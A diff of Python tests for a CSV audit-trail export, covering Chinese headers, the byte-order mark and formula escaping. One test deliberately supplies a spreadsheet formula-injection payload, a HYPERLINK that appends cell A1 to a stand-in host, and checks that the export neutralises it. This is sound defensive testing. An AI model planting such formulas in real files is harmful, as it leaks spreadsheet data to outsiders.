@@ -190,7 +190,7 @@ def test_the_csv_export_parses_back_to_the_json_export(
 ) -> None:
     subject = varied_institution(client, clerk, supervisor)["subject"]
     export = f"/subjects/{subject}/audit-trail/export"
-    response = client.get(export, headers=clerk)
+    response = client.get(f"{export}?lang=en&bom=false", headers=clerk)
     assert response.status_code == 200
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert "attachment" in response.headers["content-disposition"]
@@ -204,10 +204,28 @@ def test_the_csv_export_parses_back_to_the_json_export(
     parsed = parse_csv(text)
     assert parsed == expected
     assert any(row["reason"] == "复核决定" for row in parsed)  # UTF-8 round trip
-    filtered = parse_csv(client.get(f"{export}?kind=Appeal", headers=clerk).text)
+    filtered = parse_csv(client.get(f"{export}?kind=Appeal&lang=en&bom=false", headers=clerk).text)
     assert [r["position"] for r in filtered] == [
         e["position"] for e in items if e["record_kind"] == "Appeal"
     ]
+
+
+def test_the_csv_export_opens_in_a_chinese_spreadsheet_as_written(
+    client: TestClient, clerk: Headers, supervisor: Headers
+) -> None:
+    """Excel on Chinese Windows reads a CSV without a byte-order mark as GBK (garbled): the
+    export starts with one and names its columns in Chinese; lang=en gives the field names,
+    bom=false leaves the mark out. The rows are the same either way."""
+    subject = varied_institution(client, clerk, supervisor)["subject"]
+    export = f"/subjects/{subject}/audit-trail/export"
+    raw = client.get(export, headers=clerk).content
+    assert raw.startswith(b"\xef\xbb\xbf")
+    zh = raw.decode("utf-8-sig").splitlines()
+    assert zh[0].split(",")[:5] == ["日志位置", "记录编号", "记录版本", "记录类型", "事件"]
+    assert "复核决定" in raw.decode("utf-8-sig")
+    en = client.get(f"{export}?lang=en&bom=false", headers=clerk).content.decode("utf-8")
+    assert en.splitlines()[0].startswith("position,record_id")
+    assert zh[1:] == en.splitlines()[1:]
 
 
 def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
@@ -216,8 +234,9 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"查看")'
     subject = register_person(client, clerk, "AUDIT-CSV1", reason=formula)
     export = f"/subjects/{subject}/audit-trail/export"
-    rows = list(csv.DictReader(io.StringIO(client.get(export, headers=clerk).text)))
-    assert [row["reason"] for row in rows] == ["'" + formula]
+    text = client.get(export, headers=clerk).content.decode("utf-8-sig")  # as Excel reads it
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["理由或依据"] for row in rows] == ["'" + formula]
     for row in rows:
         assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
     items = ok(client.get(f"{export}?format=json", headers=clerk))["items"]
